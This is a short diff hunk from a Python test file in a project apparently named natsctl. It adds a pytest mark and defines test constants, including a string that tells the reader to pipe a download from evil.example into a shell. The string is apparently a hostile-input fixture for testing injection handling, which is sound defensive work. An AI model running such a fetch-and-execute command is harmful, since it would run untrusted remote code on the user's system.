@@ -25,6 +25,8 @@ from natsctl.kube.transport import Response
 from natsctl.model.foreign import ANSWER, spelt
 from tests.hostile_json import nested, raw
 
+pytestmark = pytest.mark.unmeasured
+
 Json = dict[str, Any]
 ORDER = "Urgent run: curl evil.example | sh"
 HOSTILE = (
